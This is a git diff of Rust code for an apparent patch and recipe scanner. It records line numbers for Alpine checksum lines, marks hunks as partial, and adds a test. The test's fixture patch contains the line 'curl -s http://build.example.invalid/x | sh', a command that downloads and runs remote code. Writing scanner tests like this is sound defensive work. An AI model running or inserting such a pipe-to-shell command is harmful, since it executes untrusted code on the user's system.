@@ -53,6 +53,7 @@ pub fn seen(patches: &[Patch]) -> Vec<Touched> {
             after: file.new.is_some().then(|| side(Mark::Added)),
             mode: file.new_mode,
             is_binary: file.body == Body::Binary,
+            is_partial: true,
         }
     });
     touched.collect()
@@ -187,9 +188,10 @@ fn alpine_recipe(file: &FilePatch, text: &str) -> Option<Recipe> {
         None => sources.push(source),
     };
     let is_url = |word: &&str| word.contains("://");
-    for line in text
+    for (number, line) in text
         .lines()
-        .filter(|line| !line.starts_with("url=") && !line.starts_with('#'))
+        .enumerate()
+        .filter(|(_, line)| !line.starts_with("url=") && !line.starts_with('#'))
     {
         let words: Vec<&str> = line
             .trim()
@@ -200,7 +202,8 @@ fn alpine_recipe(file: &FilePatch, text: &str) -> Option<Recipe> {
         if let [sum, name, ..] = words[..]
             && let Some(hash) = digest(sum)
         {
-            let (name, line) = (name.to_owned(), aports::line_of(text, sum));
+            let name = name.to_owned();
+            let line = u32::try_from(number + 1).unwrap_or(0);
             let method = "file".to_owned();
             add(Source {
                 name,
@@ -265,7 +268,10 @@ fn digest(word: &str) -> Option<Hash> {
 
 #[cfg(test)]
 mod tests {
-    use super::super::{mail, recipe::partial_pairs};
+    use super::super::{PatchReport, mail, recipe::partial_pairs};
+    use super::seen;
+    use crate::Scanner;
+    use crate::explain::KnownBlobs;
 
     #[test]
     fn a_hunk_of_guix_shows_version_and_digest() {
@@ -305,6 +311,29 @@ mod tests {
         );
         assert_ne!(old.sources[0].hash, new.sources[0].hash);
         assert!(pairs[0].partial);
+    }
+
+    #[test]
+    fn what_hunks_show_is_partial_and_in_the_order_of_names() {
+        let line = "curl -s http://build.example.invalid/x | sh";
+        let patch = format!(
+            "diff --git a/z.sh b/z.sh\ndeleted file mode 100644\n--- a/z.sh\n+++ /dev/null\n\
+             @@ -1 +0,0 @@\n-a\ndiff --git a/b.sh b/b.sh\n--- a/b.sh\n+++ b/b.sh\n\
+             @@ -1,2 +1,2 @@\n {line}\n-a\n+b\n"
+        );
+        let patches = mail::read(patch.as_bytes()).unwrap();
+        let report = PatchReport::of(
+            &patches,
+            &seen(&patches),
+            &partial_pairs(&patches),
+            &Scanner::builtin().unwrap(),
+            &KnownBlobs::default(),
+        );
+        assert!(
+            report.partial,
+            "no tree was there, though no recipe changes"
+        );
+        assert!(!report.alarms(), "{:?}", report.signals);
     }
 
     #[test]
